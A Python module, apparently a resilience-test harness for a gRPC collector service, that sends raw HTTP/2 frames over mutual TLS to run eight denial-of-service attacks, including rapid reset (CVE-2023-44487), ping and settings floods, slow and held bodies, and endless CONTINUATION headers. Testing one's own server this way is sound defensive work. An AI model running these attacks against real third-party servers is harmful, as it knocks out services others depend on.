"""A client with no manners: raw HTTP/2 frames over mutual TLS, with an agent's own certificate.

Each attack runs until told to stop and opens a new connection whenever the server ends the last one, which it may.
"""

from __future__ import annotations

import socket
import ssl
import struct
import time
from contextlib import suppress
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from cloud_collector.config.tables import LimitsTable
from cloud_collector.turnstile import MAX_CALLS_OF_ONE

if TYPE_CHECKING:
    import threading
    from collections.abc import Callable
    from pathlib import Path

PUSH = "/edge_agg.contract.v1.CollectorService/PushReleases"
LARGEST = LimitsTable().max_message_bytes
_GONE = (OSError, ssl.SSLError)


@dataclass
class Line:
    """One connection, and what h2 knows of it."""

    address: str
    home: Path
    sock: ssl.SSLSocket = field(init=False)
    http: h2.connection.H2Connection = field(init=False)

    def __post_init__(self) -> None:
        context = ssl.create_default_context(cafile=str(self.home / "ca.pem"))
        context.load_cert_chain(self.home / "cert.pem", self.home / "key.pem")
        context.set_alpn_protocols(["h2"])
        host, _, port = self.address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=5)
        self.sock = context.wrap_socket(plain, server_hostname=host)
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.http = h2.connection.H2Connection(config)
        self.http.initiate_connection()
        self.flush()

    def flush(self) -> None:
        """Send what h2 has written."""
        data = self.http.data_to_send()
        if data:
            self.sock.sendall(data)

    def open(self, stream: int, *more: tuple[str, str]) -> None:
        """Begin a call and say nothing of its message yet."""
        headers = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", PUSH),
            (":authority", self.address),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]
        self.http.send_headers(stream, headers)
        self.flush()

    def raw(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        """Send one frame that h2 would not."""
        self.sock.sendall(struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body)

    def hear(self, wait_s: float = 0.0) -> None:
        """Read what the server said, so that its answers do not pile up; raises when it has hung up."""
        self.sock.settimeout(wait_s or 0.001)
        with suppress(TimeoutError):
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionResetError
            for event in self.http.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    raise ConnectionResetError
        self.sock.settimeout(5)

    def close(self) -> None:
        """Hang up."""
        self.sock.close()


def slow_bodies(line: Line, stop: threading.Event) -> None:
    """Begin as many calls as the server takes, promise 1 MiB each, and send a byte a second."""
    streams = [1 + 2 * i for i in range(60)]
    for stream in streams:
        line.open(stream)
        line.http.send_data(stream, struct.pack(">BI", 0, 2**20))
        line.flush()
    while not stop.wait(0.2):
        for stream in streams:
            with suppress(Exception):  # refused calls are over; the others go on
                line.http.send_data(stream, b"\0")
        line.flush()
        line.hear()


def held_bodies(line: Line, stop: threading.Event) -> None:
    """Send all but the last byte of as many of the largest messages as one caller may, and hold them."""
    streams = [1 + 2 * i for i in range(MAX_CALLS_OF_ONE)]
    left = dict.fromkeys(streams, LARGEST - 1)
    for stream in streams:
        line.open(stream)
        line.http.send_data(stream, struct.pack(">BI", 0, LARGEST))
        line.flush()
    while not stop.wait(0.0 if any(left.values()) else 0.2):
        for stream in [stream for stream in streams if left[stream]]:
            with suppress(h2.exceptions.StreamClosedError):
                size = min(left[stream], line.http.local_flow_control_window(stream), line.http.max_outbound_frame_size)
                line.http.send_data(stream, bytes(size))
                left[stream] -= size
        line.flush()
        line.hear()


def rapid_resets(line: Line, stop: threading.Event) -> None:
    """Open and reset calls as fast as the socket takes them (CVE-2023-44487)."""
    stream = 1
    while not stop.is_set():
        for _ in range(100):
            line.open(stream)
            line.http.reset_stream(stream)
            stream += 2
        line.flush()
        line.hear()


def pings(line: Line, stop: threading.Event) -> None:
    """Ping without pause."""
    while not stop.is_set():
        for _ in range(200):
            line.raw(6, 0, 0, b"12345678")
        line.hear()


def settings_flood(line: Line, stop: threading.Event) -> None:
    """Change settings without pause; each change must be acknowledged."""
    while not stop.is_set():
        for _ in range(200):
            line.raw(4, 0, 0, struct.pack(">HI", 4, 65535))
        line.hear()


def huge_metadata(line: Line, stop: threading.Event) -> None:
    """Call with 64 KiB of metadata, again and again."""
    stream = 1
    while not stop.is_set():
        line.open(stream, *((f"x-pad-{i}", "x" * 4000) for i in range(16)))
        stream += 2
        line.hear(0.01)


def endless_headers(line: Line, stop: threading.Event) -> None:
    """One header block that never ends: CONTINUATION frames without END_HEADERS."""
    line.raw(1, 0, 1, b"\x82")
    while not stop.is_set():
        for _ in range(100):
            line.raw(9, 0, 1, b"\x40\x05x-pad\x7f\x81\x1e" + b"x" * 4000)
        line.hear()


def silent_handshakes(line: Line, stop: threading.Event) -> None:
    """Connect a hundred times and never begin the handshake."""
    line.close()
    host, _, port = line.address.rpartition(":")
    held = [socket.create_connection((host, int(port)), timeout=5) for _ in range(100)]
    stop.wait(5)
    for one in held:
        one.close()


ATTACKS: dict[str, Callable[[Line, threading.Event], None]] = {
    "slow bodies": slow_bodies,
    "held bodies": held_bodies,
    "rapid resets": rapid_resets,
    "pings": pings,
    "settings": settings_flood,
    "huge metadata": huge_metadata,
    "endless headers": endless_headers,
    "silent handshakes": silent_handshakes,
}


@dataclass
class Tally:
    """What became of an attacker."""

    connections: int = 0
    ended: int = 0


def attack(name: str, address: str, home: Path, stop: threading.Event, tally: Tally) -> None:
    """Attack on one connection after the other until told to stop."""
    while not stop.is_set():
        try:
            line = Line(address, home)
        except _GONE:
            time.sleep(0.05)
            continue
        tally.connections += 1
        try:
            ATTACKS[name](line, stop)
        except (*_GONE, h2.exceptions.ProtocolError):
            tally.ended += 1
        finally:
            line.close()
